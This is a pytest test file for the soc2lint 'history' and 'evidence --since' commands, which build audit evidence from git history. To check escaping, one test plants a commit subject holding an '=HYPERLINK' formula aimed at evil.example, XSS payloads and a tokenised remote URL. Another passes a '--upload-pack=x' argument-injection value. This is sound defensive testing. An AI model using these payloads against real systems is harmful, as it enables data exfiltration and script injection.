"""``soc2lint history`` and ``evidence --since`` from the command line: errors, formats,
exit codes, what is never touched, and what a commit message cannot do to a page."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
from collections.abc import Sequence
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from soc2lint.cli import main

from history_repo import Repo, audit_year, volume

pytestmark = pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")

SELECT = ["--select", "ENC002,ENC008"]


@pytest.fixture(scope="module")
def audit(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return audit_year(tmp_path_factory.mktemp("audit") / "infra").path


def run(cwd: Path, args: Sequence[str], monkeypatch: pytest.MonkeyPatch) -> Result:
    monkeypatch.chdir(cwd)
    return CliRunner().invoke(main, list(args))


def test_a_shallow_clone_says_to_fetch_the_history(
    audit: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    shallow = tmp_path / "shallow"
    subprocess.run(
        ["git", "clone", "-q", "--depth", "2", audit.as_uri(), str(shallow)],
        check=True,
        capture_output=True,
    )
    r = run(shallow, ["history", "--since", "2025-01-01", "--until", "2025-03-31", *SELECT],
            monkeypatch)  # fmt: skip
    assert r.exit_code == 2, r.output
    assert "fetch-depth: 0" in r.output and "shallow" in r.output
    assert "Traceback" not in r.output


def test_a_period_older_than_the_history_is_refused(
    audit: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    r = run(audit, ["history", "--since", "2024-06-01", "--until", "2025-03-31"], monkeypatch)
    assert r.exit_code == 2, r.output
    assert "before the first commit" in r.output and "2024-12-20" in r.output
    assert "fetch-depth: 0" in r.output


@pytest.mark.parametrize(
    ("args", "says"),
    [
        (["--since", "2025-01-01", "--until", "2099-01-01"], "in the future"),
        (["--since", "2025-03-01", "--until", "2025-02-01"], "before --since"),
        (["--since", "yesterday-ish"], "expected a date"),
        (["--since", "2025-01-01", "--until", "2025-03-31", "--ref", "no-such-branch"], "--ref"),
        (["--since", "2025-01-01", "--until", "2025-03-31", "--ref", "--upload-pack=x"], "--ref"),
        (["--since", "2025-01-01", "--remediation-days", "high"], "SEVERITY=DAYS"),
        (["--since", "2025-01-01", "--remediation-days", "urgent=3"], "SEVERITY=DAYS"),
        (["--since", "2025-01-01", "--seed", "a b`c"], "--seed"),
        (["--since", "2025-01-01", "--ticket-pattern", "([A-Z]"], "--ticket-pattern"),
    ],
)
def test_bad_options_are_usage_errors(
    audit: Path, args: list[str], says: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    r = run(audit, ["history", *args, *SELECT, "-o", "/nonexistent-never-written"], monkeypatch)
    assert r.exit_code == 2, r.output
    assert says in r.output
    assert "Traceback" not in r.output


def test_outside_a_repository(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "main.tf").write_text(volume("x", False), encoding="utf-8")
    r = run(tmp_path, ["history", "--since", "2025-01-01"], monkeypatch)
    assert r.exit_code == 2 and "not inside a git repository" in r.output


def test_a_complete_period_exits_0_and_fail_on_looks_at_its_end(
    audit: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    period = ["history", "--since", "2025-01-01", "--until", "2025-02-28", *SELECT]
    r = run(audit, [*period, "-o", str(tmp_path / "a")], monkeypatch)
    assert r.exit_code == 0, r.output
    # the legacy volume (high) is still open on 2025-02-28
    r = run(audit, [*period, "-o", str(tmp_path / "b"), "--fail-on", "high"], monkeypatch)
    assert r.exit_code == 1, r.output
    r = run(audit, [*period, "-o", str(tmp_path / "c"), "--fail-on", "critical"], monkeypatch)
    assert r.exit_code == 0, r.output


def test_reproducible_output_is_byte_identical(
    audit: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    args = ["history", "--since", "2025-01-01", "--until", "2025-03-31", *SELECT, "-f", "markdown",
            "-f", "json"]  # fmt: skip
    outs = []
    for name in ("one", "two"):
        run(audit, [*args, "--reproducible", "-o", str(tmp_path / name)], monkeypatch)
        outs.append({p.relative_to(tmp_path / name): p.read_bytes()
                     for p in sorted((tmp_path / name).rglob("*")) if p.is_file()})  # fmt: skip
    assert outs[0] == outs[1] and len(outs[0]) == 7
    run(audit, [*args, "-o", str(tmp_path / "dated")], monkeypatch)
    assert "Generated at" in (tmp_path / "dated/posture/timeline.md").read_text()
    doc = json.loads((tmp_path / "dated/history.json").read_text())
    assert "generated_at" in doc
    assert "generated_at" not in json.loads((tmp_path / "one/history.json").read_text())


def test_json_only(audit: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    out = tmp_path / "out"
    r = run(audit, ["history", "--since", "2025-01-01", "--until", "2025-03-31", *SELECT,
                    "--format", "json", "-o", str(out)], monkeypatch)  # fmt: skip
    assert r.exit_code == 3
    assert [p.name for p in out.iterdir()] == ["history.json"]
    doc = json.loads((out / "history.json").read_text())
    assert doc["schema_version"] == 1 and doc["period"]["days"] == 90
    assert len(doc["commits"]) == 10 and len(doc["findings"]) == 4
    assert doc["settings"]["remediation_days"] == {
        "low": 180,
        "medium": 90,
        "high": 30,
        "critical": 7,
    }


def test_the_working_tree_and_index_are_never_touched(
    audit: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # a change in the working tree and one in the index: history reads commits only
    (audit / "services/app/main.tf").write_text("# edited, not committed\n", encoding="utf-8")
    subprocess.run(["git", "-C", str(audit), "add", "services/app/main.tf"], check=True)
    before = {p: p.stat().st_mtime_ns for p in audit.rglob("*") if ".git" not in p.parts}
    index = (audit / ".git/index").read_bytes()
    status = subprocess.run(["git", "-C", str(audit), "status", "--porcelain"], check=True,
                            capture_output=True, text=True).stdout  # fmt: skip
    try:
        r = run(audit, ["history", "--since", "2025-01-01", "--until", "2025-03-31", *SELECT,
                        "-o", str(tmp_path / "out")], monkeypatch)  # fmt: skip
        assert r.exit_code == 3
        after = {p: p.stat().st_mtime_ns for p in audit.rglob("*") if ".git" not in p.parts}
        assert after == before
        assert (audit / ".git/index").read_bytes() == index
        assert subprocess.run(["git", "-C", str(audit), "status", "--porcelain"], check=True,
                              capture_output=True, text=True).stdout == status  # fmt: skip
    finally:
        subprocess.run(["git", "-C", str(audit), "reset", "-q", "--hard"], check=True)


def test_commit_metadata_is_data_in_every_page(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    r = Repo(tmp_path / "hostile")
    r.write("main.tf", volume("a", True))
    r.commit("Start", "2024-12-01T00:00:00Z")
    r.write("main.tf", volume("a", False))
    r.commit(
        '=HYPERLINK("http://evil.example/?"&A1) <img src=x onerror=alert(1)> | `x` '
        "[click](javascript:alert(1)) @everyone (#7)",
        "2025-01-02T00:00:00Z",
        author="<script>Mallory</script>",
    )
    r.git(
        "remote",
        "add",
        "origin",
        "https://x-access-token:ghs_SECRET@github.com/acme/infra.git",
    )
    out = tmp_path / "out"
    res = run(r.path, ["history", "--since", "2025-01-01", "--until", "2025-01-31", *SELECT,
                       "-o", str(out), "-f", "markdown", "-f", "json"], monkeypatch)  # fmt: skip
    assert res.exit_code == 0, res.output
    pages = {p: p.read_text() for p in out.rglob("*") if p.is_file()}
    for path, text in pages.items():
        assert "ghs_SECRET" not in text, path
        if path.suffix == ".md":
            assert "<img" not in text and "<script>" not in text, path
            assert not re.search(r"(?<!\\)\]\(javascript:", text), path  # escaped, no link
    log = (out / "change-management/change-log.md").read_text()
    assert "https://github.com/acme/infra/commit/" in log  # the token-free address
    rows = list(csv.reader(io.StringIO((out / "change-management/change-log.csv").read_text())))
    subject = rows[1][3]
    assert subject.startswith("'=HYPERLINK")  # a spreadsheet does not run it


def test_evidence_since_adds_the_period_to_the_pack(
    audit: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    pack = tmp_path / "pack"
    r = run(audit, ["evidence", "--since", "2025-01-01", "--until", "2025-03-31", *SELECT,
                    "-o", str(pack), "--reproducible"], monkeypatch)  # fmt: skip
    assert r.exit_code == 3, r.output  # part of the period is unknown
    readme = (pack / "README.md").read_text()
    assert "## Observation period" in readme
    assert "Between 2025-01-01 and 2025-03-31 (90 days), 10 commits landed" in readme
    assert "[change log](change-management/change-log.md)" in readme
    for page in ("change-management/change-log.md", "change-management/sample.md",
                 "posture/exposure-windows.md", "posture/timeline.md", "history.json",
                 "change-management/change-controls.md"):  # fmt: skip
        assert (pack / page).is_file(), page
    # without --since the pack has no period (and a rewrite removes the old one)
    r = run(audit, ["evidence", *SELECT, "-o", str(pack), "--reproducible"], monkeypatch)
    assert r.exit_code == 0, r.output
    assert not (pack / "posture").exists() and not (pack / "history.json").exists()
    assert "Observation period" not in (pack / "README.md").read_text()


def test_several_processes_give_the_same_history(
    audit: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The period cut into slices replayed in forked processes, each sending its states
    as changes, is the same history as one process replaying it all."""
    from soc2lint.history import replay

    monkeypatch.setattr(replay, "PARALLEL_MIN_COMMITS", 2)
    args = ["history", "--since", "2025-01-01", "--until", "2025-03-31", *SELECT,
            "--reproducible", "-f", "markdown", "-f", "json"]  # fmt: skip
    outs = []
    for jobs in ("1", "2"):
        out = tmp_path / f"jobs{jobs}"
        r = run(audit, [*args, "--jobs", jobs, "-o", str(out)], monkeypatch)
        assert r.exit_code == 3, r.output
        outs.append({p.relative_to(out): p.read_bytes() for p in out.rglob("*") if p.is_file()})
    assert outs[0] == outs[1]


VARIABLE_VOLUME = """variable "encrypted" {
  type = bool
}

resource "aws_ebs_volume" "data" {
  availability_zone = "us-east-1a"
  size              = 10
  encrypted         = var.encrypted
}
"""


@pytest.mark.parametrize("jobs", ["1", "2"])
def test_variable_files_are_read_at_each_commit_in_command_line_order(
    tmp_path: Path, jobs: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``--var`` and ``--var-file`` apply in command-line order, later ones winning, as in
    ``scan``; a variable file in the repository is read as each commit has it: the volume
    is unencrypted exactly while the committed file says so, whatever ``--var`` says
    before it and whatever the work tree holds now."""
    from soc2lint.history import replay

    monkeypatch.setattr(replay, "PARALLEL_MIN_COMMITS", 2)
    r = Repo(tmp_path / "vars")
    r.write("live/main.tf", VARIABLE_VOLUME)
    r.write("env/prod.tfvars", "encrypted = true\n")
    r.commit("Encrypted data volume", "2024-12-01T10:00:00Z")
    r.write("env/prod.tfvars", "encrypted = false\n")
    opened = r.commit("Stop encrypting (#7)", "2025-01-10T10:00:00Z")
    r.write("live/main.tf", VARIABLE_VOLUME + "# note\n")
    r.commit("A note", "2025-01-12T10:00:00Z")
    r.write("env/prod.tfvars", "encrypted = true\n")
    resolved = r.commit("Encrypt again (#8)", "2025-01-20T10:00:00Z")
    # the work tree disagrees with every commit: it must not be what is read
    r.write("env/prod.tfvars", "encrypted = false\n")

    def windows(order: list[str], name: str) -> list[tuple[object, ...]]:
        out = tmp_path / f"{name}-{jobs}"
        args = ["history", "--since", "2025-01-01", "--until", "2025-01-31", "--select",
                "ENC002", *order, "--jobs", jobs, "-f", "json", "-o", str(out),
                "--reproducible"]  # fmt: skip
        res = run(r.path, args, monkeypatch)
        assert res.exit_code == 0, res.output
        doc = json.loads((out / "history.json").read_text())
        return [(w["rule_id"], w["address"], w["open_before_period"], w["opened_commit"],
                 w["resolved_commit"]) for w in doc["findings"]]  # fmt: skip

    in_repo = ["--var-file", "env/prod.tfvars"]
    var = ["--var", "encrypted=false"]
    assert windows([*var, *in_repo], "file-wins") == [
        ("ENC002", "aws_ebs_volume.data", False, opened, resolved)
    ]
    # the other order: --var wins over the file at every commit
    assert windows([*in_repo, *var], "var-wins") == [
        ("ENC002", "aws_ebs_volume.data", True, None, None)
    ]
    # an absolute path inside the repository is read at each commit too
    absolute = ["--var-file", str(r.path / "env" / "prod.tfvars")]
    assert windows([*var, *absolute], "absolute") == [
        ("ENC002", "aws_ebs_volume.data", False, opened, resolved)
    ]


WORKSPACE_VOLUME = """resource "aws_ebs_volume" "data" {
  availability_zone = "us-east-1a"
  size              = 10
  encrypted         = terraform.workspace == "prod" ? true : %s
}
"""


def test_the_workspace_applies_to_every_replayed_commit(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``--workspace`` (and ``TF_WORKSPACE``) reach every replayed commit as they reach
    ``scan``: in prod the volume is always encrypted; elsewhere only after the fix."""
    r = Repo(tmp_path / "ws")
    r.write("main.tf", WORKSPACE_VOLUME % "false")
    r.commit("Volume encrypted in prod only", "2024-12-01T10:00:00Z")
    r.write("main.tf", WORKSPACE_VOLUME % "true")
    fixed = r.commit("Encrypt everywhere (#2)", "2025-01-15T10:00:00Z")

    def windows(extra: list[str], name: str) -> list[tuple[object, ...]]:
        out = tmp_path / name
        args = ["history", "--since", "2025-01-01", "--until", "2025-01-31", "--select",
                "ENC002", *extra, "-f", "json", "-o", str(out), "--reproducible"]  # fmt: skip
        res = run(r.path, args, monkeypatch)
        assert res.exit_code == 0, res.output
        doc = json.loads((out / "history.json").read_text())
        return [(w["address"], w["open_before_period"], w["resolved_commit"])
                for w in doc["findings"]]  # fmt: skip

    monkeypatch.delenv("TF_WORKSPACE", raising=False)
    assert windows([], "default") == [("aws_ebs_volume.data", True, fixed)]
    assert windows(["--workspace", "prod"], "prod") == []
    monkeypatch.setenv("TF_WORKSPACE", "prod")
    assert windows([], "env") == []
